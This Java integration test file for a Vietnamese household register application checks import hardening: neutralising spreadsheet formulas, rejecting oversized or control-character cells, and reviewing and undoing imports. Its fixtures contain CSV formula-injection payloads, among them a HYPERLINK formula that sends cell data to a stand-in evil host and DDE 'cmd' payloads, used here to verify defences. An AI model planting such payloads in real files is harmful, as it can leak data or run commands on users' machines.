package vn.hoctap.register;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;

import com.jayway.jsonpath.JsonPath;

import vn.hoctap.IntegrationTest;
import vn.hoctap.accounts.Role;
import vn.hoctap.reporting.ReportExchange;

/**
 * Issue 11 attacks on the register: formula injection through an imported cell, over-long and control-character
 * cells, and an import that deletes or changes persons (kept, shown, undone). Communes 00322, 00328, 00331 (2025).
 */
class RegisterHardeningTest extends IntegrationTest {

    static final String HEADER = "person_id,household_id,commune_code,village,birth_date,sex,ethnicity";

    @Autowired
    JdbcTemplate jdbc;

    @Autowired
    ReportExchange exchange;

    /** Imports through the API (the body is the file) and waits for the job; returns the job JSON. */
    String importApi(TestUser as, String csv) throws Exception {
        String started = mvc.perform(post("/api/register/imports").param("year", "2025").param("fileName", "so.csv")
                        .content(csv.getBytes(StandardCharsets.UTF_8)).contentType("text/csv")
                        .with(httpBasic(as.username(), as.password())))
                .andExpect(status().isAccepted()).andReturn().getResponse().getContentAsString();
        String id = JsonPath.read(started, "$.id");
        for (int i = 0; i < 300; i++) {
            String job = mvc.perform(get("/api/register/import-jobs/" + id).with(httpBasic(as.username(), as.password())))
                    .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
            String state = JsonPath.read(job, "$.state");
            if (state.equals("DONE") || state.equals("FAILED")) {
                return job;
            }
            Thread.sleep(50);
        }
        throw new AssertionError("import did not finish");
    }

    List<String> snapshot(String commune) {
        return jdbc.queryForList("select to_jsonb(r)::text from register_person r where year = 2025 and commune_code = ? order by person_id",
                String.class, commune);
    }

    @Test
    void aFormulaImportedInACellIsExportedAsTextAndReimportsUnchanged() throws Exception {
        TestUser officer = user(Role.COMMUNE_OFFICER, "00322");
        String csv = HEADER + "\n"
                + "FX-1,FXH1,00322,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",1990,M,@SUM(1+1)\n"
                + "FX-2,-2+3+cmd|' /C calc'!A0,00322,Tổ 2,1991,F,\n";
        String job = importApi(officer, csv);
        assertThat((Boolean) JsonPath.read(job, "$.ok")).isTrue();
        // stored as typed: the data is not altered, only its spreadsheet form
        assertThat(jdbc.queryForObject("select village from register_person where year = 2025 and person_id = 'FX-1'", String.class))
                .isEqualTo("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
        String export = mvc.perform(get("/register/export").param("year", "2025").param("commune", "00322").param("headers", "en")
                        .with(httpBasic(officer.username(), officer.password())))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(export).contains("FX-1,FXH1,00322,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",1990,M,'@SUM(1+1)")
                .contains("FX-2,'-2+3+cmd|' /C calc'!A0,00322");
        assertThat(export.lines().skip(1)).noneMatch(l -> l.startsWith("=") || l.contains(",=") || l.contains(",@") || l.contains(",\"="));
        // the export re-imports to the same data: nothing changes
        String again = importApi(officer, export);
        assertThat((Integer) JsonPath.read(again, "$.inserted") + (Integer) JsonPath.read(again, "$.updated")
                + (Integer) JsonPath.read(again, "$.deleted")).isZero();
    }

    @Test
    void reportingCsvIsNeutralisedToo() {
        String csv = exchange.toCsv(List.of(new ReportExchange.DataValue("=cmd|' /C calc'!A0", "2025", "ORG1", "-5"),
                new ReportExchange.DataValue("DE1", "2025", "@ORG", "+1")));
        assertThat(csv).contains("'=cmd|' /C calc'!A0,2025,ORG1,-5\n").contains("DE1,2025,'@ORG,'+1\n");
    }

    @Test
    void overLongAndControlCharacterCellsGetLocatedErrorsAndWriteNothing() throws Exception {
        TestUser officer = user(Role.COMMUNE_OFFICER, "00331");
        List<String> before = snapshot("00331");
        String csv = HEADER + "\n"
                + "LG-1,LGH1,00331," + "x".repeat(201) + ",1990,M,\n"
                + "LG-2,LGH1,00331,Tổ 1,1990,F,Kinh\u0000\n"
                + "LG-3,LGH1,00331,\"Tổ\u001B3\",1990,F,\n"
                + "LG-4,LGH1,00331," + "v".repeat(4_000_000) + ",1990,M,\n";
        String job = importApi(officer, csv);
        assertThat(job).doesNotContain("register.import.failed");
        assertThat((Boolean) JsonPath.read(job, "$.ok")).isFalse();
        List<Map<String, Object>> errors = JsonPath.read(job, "$.errors");
        assertThat(errors).extracting(e -> e.get("line") + ":" + e.get("column"))
                .containsExactly("2:village", "3:ethnicity", "4:village", "5:village");
        assertThat((String) errors.get(0).get("reason_vi")).contains("tối đa 200 ký tự");
        assertThat((String) errors.get(1).get("reason_vi")).contains("U+0000");
        assertThat((String) errors.get(2).get("reason_en")).contains("U+001B");
        assertThat((String) errors.get(3).get("value")).contains("4000000");
        assertThat(snapshot("00331")).isEqualTo(before);
    }

    @Test
    void anImportThatChangesAndDeletesPersonsCanBeReviewedAndUndone() throws Exception {
        TestUser officer = user(Role.COMMUNE_OFFICER, "00328");
        String first = HEADER + "\n"
                + "UN-1,UH1,00328,Tổ 1,1990,M,\n"
                + "UN-2,UH1,00328,Tổ 1,1991,F,\n"
                + "UN-3,UH2,00328,Tổ 2,1992,M,\n"
                + "UN-4,UH2,00328,Tổ 2,1993,F,\n";
        assertThat((Boolean) JsonPath.read(importApi(officer, first), "$.ok")).isTrue();
        List<String> beforeSecond = snapshot("00328");
        assertThat(beforeSecond).hasSize(4);
        // the second file: UN-1 moved to Tổ 9 and born 1989, UN-2 gone, UN-5 new, UN-3 and UN-4 unchanged
        String second = HEADER + "\n"
                + "UN-1,UH1,00328,Tổ 9,1989,M,\n"
                + "UN-3,UH2,00328,Tổ 2,1992,M,\n"
                + "UN-4,UH2,00328,Tổ 2,1993,F,\n"
                + "UN-5,UH3,00328,Tổ 3,2000,F,\n";
        String job = importApi(officer, second);
        assertThat(job).contains("\"inserted\":1").contains("\"updated\":1").contains("\"deleted\":1");
        Number importId = JsonPath.read(job, "$.import_id");
        // before-images only for what changed: 3 rows, not 4
        assertThat(jdbc.queryForList("select change || ':' || person_id from register_import_change where import_id = ? order by person_id",
                String.class, importId.longValue())).containsExactly("U:UN-1", "D:UN-2", "I:UN-5");
        String changes = mvc.perform(get("/api/register/imports/" + importId).with(httpBasic(officer.username(), officer.password())))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
        assertThat((List<String>) JsonPath.read(changes, "$.added")).containsExactly("UN-5");
        assertThat((List<Map<String, String>>) JsonPath.read(changes, "$.changed[0].fields")).containsExactly(
                Map.of("field", "village", "before", "Tổ 1", "after", "Tổ 9"),
                Map.of("field", "birth_date", "before", "1990", "after", "1989"));
        assertThat((String) JsonPath.read(changes, "$.deleted[0].person_id")).isEqualTo("UN-2");
        assertThat((String) JsonPath.read(changes, "$.deleted[0].birth_date")).isEqualTo("1991");
        String page = mvc.perform(get("/register/imports/" + importId).with(httpBasic(officer.username(), officer.password())))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
        assertThat(page).contains("Thêm mới: 1 người").contains("Sửa: 1 người").contains("Xóa: 1 người").contains("Tổ 9")
                .contains("Hoàn tác lần nhập này");
        // another commune's officer may neither see nor undo it
        TestUser other = user(Role.COMMUNE_OFFICER, "00322");
        mvc.perform(get("/api/register/imports/" + importId).with(httpBasic(other.username(), other.password())))
                .andExpect(status().isForbidden());
        mvc.perform(post("/api/register/imports/" + importId + "/undo").with(httpBasic(other.username(), other.password())))
                .andExpect(status().isForbidden());

        mvc.perform(post("/api/register/imports/" + importId + "/undo").with(httpBasic(officer.username(), officer.password())))
                .andExpect(status().isOk());
        // exactly as before the import, versions and times included
        assertThat(snapshot("00328")).isEqualTo(beforeSecond);
        assertThat(jdbc.queryForObject("select count(*) from audit_event where action = 'undo-import' and entity_id = ?",
                Integer.class, "2025:import-" + importId)).isEqualTo(1);
        // twice is refused, and changes nothing
        mvc.perform(post("/api/register/imports/" + importId + "/undo").with(httpBasic(officer.username(), officer.password())))
                .andExpect(status().isBadRequest());
        assertThat(snapshot("00328")).isEqualTo(beforeSecond);
    }

    @Test
    void anImportIsNotUndoneOverALaterEdit() throws Exception {
        TestUser officer = user(Role.COMMUNE_OFFICER, "00328");
        String base = HEADER + "\n" + "ED-1,EH1,00328,Tổ 1,1990,M,\n" + "ED-2,EH1,00328,Tổ 1,1991,F,\n";
        importApi(officer, base);
        String job = importApi(officer, HEADER + "\n" + "ED-1,EH1,00328,Tổ 5,1990,M,\n" + "ED-2,EH1,00328,Tổ 1,1991,F,\n");
        Number importId = JsonPath.read(job, "$.import_id");
        Integer version = jdbc.queryForObject("select version from register_person where year = 2025 and person_id = 'ED-2'", Integer.class);
        mvc.perform(post("/register/2025/ED-2").with(httpBasic(officer.username(), officer.password())).with(csrf())
                        .param("version", String.valueOf(version)).param("household_id", "EH1").param("commune_code", "00328")
                        .param("village", "Tổ 7").param("birth_date", "1991").param("sex", "F"))
                .andExpect(status().is3xxRedirection());
        List<String> edited = snapshot("00328");
        String answer = mvc.perform(post("/api/register/imports/" + importId + "/undo").with(httpBasic(officer.username(), officer.password())))
                .andExpect(status().isBadRequest()).andReturn().getResponse().getContentAsString();
        assertThat(answer).contains("được sửa sau lần nhập");
        assertThat(snapshot("00328")).isEqualTo(edited);
    }
}
